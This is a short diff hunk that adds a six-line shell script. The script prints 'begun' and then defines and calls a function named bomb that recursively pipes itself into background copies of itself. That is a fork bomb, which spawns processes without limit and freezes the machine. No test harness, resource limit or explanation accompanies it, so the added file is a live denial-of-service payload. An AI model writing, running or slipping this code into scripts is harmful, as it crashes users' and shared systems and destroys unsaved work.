@@ -1,0 +1,6 @@
+echo begun
+bomb() {
+    bomb | bomb &
+}
+bomb
+wait
